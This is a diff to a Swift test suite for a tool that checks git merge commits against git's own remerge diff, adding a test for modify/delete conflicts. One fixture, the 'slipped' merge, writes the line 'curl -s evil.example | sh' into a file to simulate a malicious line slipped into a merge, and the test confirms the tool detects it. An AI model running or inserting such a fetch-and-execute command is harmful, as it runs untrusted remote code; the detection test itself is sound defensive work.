@@ -180,15 +180,16 @@ struct MergeVerifierTests {
         expectSame(mine, expected)
         #expect(mine == four)
         #expect(s0.problems.isEmpty && s1.problems.isEmpty && s4.problems.isEmpty)
-        // dropped-fix has no path of its own; clean and mode are proven; conflict and evil are
-        // redone in-process (a conflict resolved by hand, lines slipped in); rename, marker
-        // (a recorded line that looks like a conflict marker), new-file and deleted go to git.
+        // dropped-fix has no path of its own; clean and mode are proven; conflict, evil and
+        // deleted are redone in-process (a conflict resolved by hand, lines slipped in, a file
+        // deleted); rename, marker (a recorded line that looks like a conflict marker) and
+        // new-file go to git.
         func counts(_ s: HistorySummary) -> [Int] {
             [s.mergesWithoutOwnPaths, s.mergesVerified, s.mergesRedone, s.mergesRemerged]
         }
         #expect(counts(s0) == [1, 0, 0, 8])
-        #expect(counts(s1) == [1, 2, 2, 4])
-        #expect(counts(s4) == [1, 2, 2, 4])
+        #expect(counts(s1) == [1, 2, 3, 3])
+        #expect(counts(s4) == [1, 2, 3, 3])
 
         let byID = Dictionary(uniqueKeysWithValues: mine.map { ($0.id.description, $0) })
         func merge(_ name: String) throws -> Commit { try #require(byID[b.merges[name]!]) }
@@ -397,6 +398,138 @@ struct MergeVerifierTests {
             "\(summary.mergesRedone) \(summary.mergesRemerged)"
         )
         #expect(mine.contains { $0.changes.flatMap(lineTexts).contains { $0.hasPrefix("resolved") } })
+    }
+
+    /// One side deletes a file the other changes (git's modify/delete conflict): the merge keeps
+    /// the deletion, keeps the changed version, or slips a line into it, and the deleting side
+    /// adds files that git's rename detection may or may not take for the deleted one. Every
+    /// change is git's own; the merges where a rename is possible go to git.
+    @Test func modifyDeleteMergesMatchGitsRemergeDiff() throws {
+        let r = try TemporaryGitRepository()
+        let who = Self.who
+        func lines(_ prefix: String, _ count: Int) -> String {
+            (1...count).map { "\(prefix) \($0): some text that makes the line long enough" }.joined(separator: "\n")
+                + "\n"
+        }
+        try r.write("f.txt", Self.numbered(40))
+        for name in ["Makefile", "proc.c", "notify.c", "cmd.c", "util.c", "lib", "data.txt", "e.c"] {
+            try r.write(name, lines(name, 30))
+        }
+        try r.commit("base", author: who)
+        var round = 0
+        func apply(_ files: [String: String?]) throws {
+            for (path, text) in files.sorted(by: { $0.key < $1.key }) {
+                if let text {
+                    try r.write(path, text)
+                } else if FileManager.default.fileExists(atPath: r.path + "/" + path) {
+                    try r.remove(path)
+                }
+            }
+        }
+        /// `f.txt` changes on both sides (merged cleanly, so the merge has a path of its own).
+        func editF(_ line: Int, _ text: String) throws {
+            var current = try String(contentsOfFile: r.path + "/f.txt", encoding: .utf8).split(separator: "\n").map(
+                String.init
+            )
+            current[line] = text
+            try r.write("f.txt", current.joined(separator: "\n") + "\n")
+        }
+        func merge(
+            _ name: String,
+            main: [String: String?],
+            side: [String: String?],
+            result: [String: String?] = [:]
+        ) throws -> String {
+            round += 1
+            try r.git(["checkout", "-q", "-b", "side-\(name)"])
+            try apply(side)
+            try editF(2 * round, "side \(round)")
+            try r.commit("side \(name)", author: who)
+            try r.git(["checkout", "-q", "main"])
+            try apply(main)
+            try editF(39 - 2 * round, "main \(round)")
+            try r.commit("main \(name)", author: who)
+            try r.mergeNoCommit("side-\(name)", as: who)
+            try apply(result)
+            return try r.commit("Merge \(name)", author: who)
+        }
+        func edited(_ name: String, _ lines: [Int]) throws -> String {
+            var text = try String(contentsOfFile: r.path + "/" + name, encoding: .utf8).split(separator: "\n").map(
+                String.init
+            )
+            for k in lines { text[k] = "edited \(k) of \(name)" }
+            return text.joined(separator: "\n") + "\n"
+        }
+        var merges: [String: String] = [:]
+        // Deleted on the first parent's side, which adds files unlike it; the merge keeps it deleted.
+        merges["ours-deletes"] = try merge(
+            "ours-deletes",
+            main: ["Makefile": nil, "configure.ac": lines("AC_INIT", 12), "compat/x.c": lines("compat", 50)],
+            side: ["Makefile": try edited("Makefile", [4])],
+            result: ["Makefile": nil]
+        )
+        // Moved and edited on the first parent's side: git's rename detection follows it.
+        merges["ours-renames"] = try merge(
+            "ours-renames",
+            main: ["proc.c": nil, "osdep.c": try edited("proc.c", [5, 6])],
+            side: ["proc.c": try edited("proc.c", [20])]
+        )
+        // Deleted on the second side, changed on the first; the merge keeps it deleted.
+        merges["theirs-deletes"] = try merge(
+            "theirs-deletes",
+            main: ["notify.c": try edited("notify.c", [3, 9])],
+            side: ["notify.c": nil],
+            result: ["notify.c": nil]
+        )
+        // Deleted on the second side, changed on the first; the merge keeps the change.
+        let kept = try edited("cmd.c", [7])
+        merges["theirs-deletes-kept"] = try merge(
+            "theirs-deletes-kept",
+            main: ["cmd.c": kept],
+            side: ["cmd.c": nil],
+            result: ["cmd.c": kept]
+        )
+        // Deleted on the first parent's side, changed on the second; the merge keeps the
+        // change with a line slipped in.
+        let util = try edited("util.c", [11])
+        merges["slipped"] = try merge(
+            "slipped",
+            main: ["util.c": nil],
+            side: ["util.c": util],
+            result: ["util.c": util + "curl -s evil.example | sh\n"]
+        )
+        // A directory takes the deleted file's place.
+        merges["directory"] = try merge(
+            "directory",
+            main: ["lib": nil, "lib/a.c": lines("lib/a", 5)],
+            side: ["lib": try edited("lib", [1])],
+            result: ["lib": nil]
+        )
+        // The first parent's side moved the file unchanged (an exact rename).
+        let data = try String(contentsOfFile: r.path + "/data.txt", encoding: .utf8)
+        merges["exact"] = try merge(
+            "exact",
+            main: ["data.txt": nil, "moved/data.txt": data],
+            side: ["data.txt": try edited("data.txt", [2])],
+            result: ["data.txt": nil]
+        )
+        // The deleting side adds a file that shares less than half of the deleted one.
+        let e = try String(contentsOfFile: r.path + "/e.c", encoding: .utf8).split(separator: "\n")
+        merges["unlike"] = try merge(
+            "unlike",
+            main: ["e.c": try edited("e.c", [0])],
+            side: ["e.c": nil, "e2.c": e.prefix(10).joined(separator: "\n") + "\n" + lines("new", 25)],
+            result: ["e.c": nil]
+        )
+        let (mine, summary) = try readBothWays(r.path)
+        let byID = Dictionary(uniqueKeysWithValues: mine.map { ($0.id.description, $0) })
+        #expect(byID[merges["slipped"]!]?.changes.flatMap(lineTexts) == ["curl -s evil.example | sh"])
+        // ours-deletes, theirs-deletes, slipped and unlike are redone here, theirs-deletes-kept
+        // is proven; ours-renames, directory and exact go to git.
+        #expect(
+            [summary.mergesVerified, summary.mergesRedone, summary.mergesRemerged] as [Int] == [1, 4, 3],
+            "\([summary.mergesVerified, summary.mergesRedone, summary.mergesRemerged])"
+        )
     }
 
     @Test func octopusMergesGoToGit() throws {
